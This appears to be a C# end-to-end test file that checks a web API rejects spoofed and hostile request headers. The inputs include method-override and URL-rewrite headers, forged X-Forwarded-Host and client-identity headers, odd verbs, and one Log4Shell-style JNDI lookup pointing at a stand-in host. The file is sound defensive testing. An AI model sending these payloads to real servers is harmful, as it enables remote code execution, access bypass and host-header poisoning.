namespace EndToEnd.Tests.Hostile;

/// <summary>Headers and methods by which a client says that it is, or means, something else.</summary>
[Collection(SystemFixture.Registering)]
public sealed class PretenceTests(SystemFixture system)
{
    [Theory]
    [InlineData("X-HTTP-Method-Override: DELETE")]
    [InlineData("X-HTTP-Method: DELETE")]
    [InlineData("X-Method-Override: DELETE")]
    [InlineData("X_HTTP_METHOD_OVERRIDE: DELETE")]
    public async Task A_verb_is_not_overridden(string header)
    {
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
        (await system.SendAsync("POST", "/api/users/1", [], header)).AssertProblem(405, "Method not allowed");
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1?", null, header)).Status);
    }

    [Theory]
    [InlineData("X-Original-URL: /api/users/1")]
    [InlineData("X-Rewrite-URL: /api/users/1")]
    [InlineData("X-Forwarded-Prefix: /api/users")]
    [InlineData("X-Forwarded-Path: /api/users/1")]
    public async Task An_address_is_not_overridden(string header) =>
        (await system.SendAsync("GET", "/nothing", null, header)).AssertProblem(404, "Not found");

    [Theory]
    [InlineData("X-Forwarded-Host: evil.example")]
    [InlineData("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https")]
    [InlineData("Forwarded: host=evil.example")]
    [InlineData("X-Original-Host: evil.example")]
    [InlineData("X-Host: evil.example")]
    [InlineData("X-Forwarded-Server: evil.example")]
    public async Task The_pages_name_no_host_that_a_client_made_up(params string[] headers)
    {
        foreach (var page in new[] { "/", "/docs" })
        {
            var reply = await system.SendAsync("GET", page, null, headers);

            reply.AssertSound();
            Assert.DoesNotContain("evil.example", reply.Head + reply.Body, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("X-Forwarded-For: 127.0.0.1")]
    [InlineData("X-Real-IP: 127.0.0.1")]
    [InlineData("X-Traffic-Class: probe")]
    [InlineData("X-User: admin")]
    [InlineData("X-Auth-Request-User: admin")]
    public async Task Who_the_client_says_it_is_changes_no_answer(string header)
    {
        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1", null, header)).Status);
        (await system.SendAsync("GET", "/internal/info", null, header)).AssertProblem(404, "Not found");
    }

    [Theory]
    [InlineData("TRACE")]
    [InlineData("PROPFIND")]
    [InlineData("BREW")]
    [InlineData("PATCH")]
    public async Task A_method_that_the_list_does_not_have_is_refused(string method)
    {
        var reply = await system.SendAsync(method, "/api/users");

        reply.AssertProblem(405, "Method not allowed");
        Assert.Contains("\r\nAllow: ", reply.Head, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("get")]
    [InlineData("head")]
    [InlineData("Delete")]
    [InlineData("pATCH")]
    public async Task A_method_in_small_letters_is_none(string method)
    {
        (await system.SendAsync(method, "/api/users/1")).AssertProblem(400, "Bad request");

        Assert.Equal(200, (await system.SendAsync("GET", "/api/users/1")).Status);
    }

    [Theory]
    [InlineData("Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")]
    [InlineData("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__")]
    [InlineData("Upgrade: TLS/1.2")]
    [InlineData("Expect: 200-ok")]
    [InlineData("Range: bytes=0-0,1-1,2-2")]
    [InlineData("If-Modified-Since: yesterday")]
    [InlineData("Accept: image/png", "Accept-Charset: klingon", "Accept-Encoding: zstd;q=x")]
    [InlineData("Cookie: a=b; ;=;\u00ff")]
    [InlineData("traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff")]
    [InlineData("X-Request-Id: ${jndi:ldap://evil.example/x}")]
    public async Task A_header_of_nonsense_harms_nobody(params string[] headers)
    {
        var reply = await system.SendAsync("GET", "/api/users/1", null, headers);

        reply.AssertSound();
        Assert.DoesNotContain("evil.example", reply.Head, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_a_client_sends_as_a_request_id_is_kept_only_when_it_is_one()
    {
        var one = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1");
        var two = await system.SendAsync("GET", "/", null, "X-Request-Id: mine-1", "X-Request-Id: mine-2");

        Assert.Contains("X-Request-Id: mine-1", one.Head, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("mine", two.Head);
    }
}
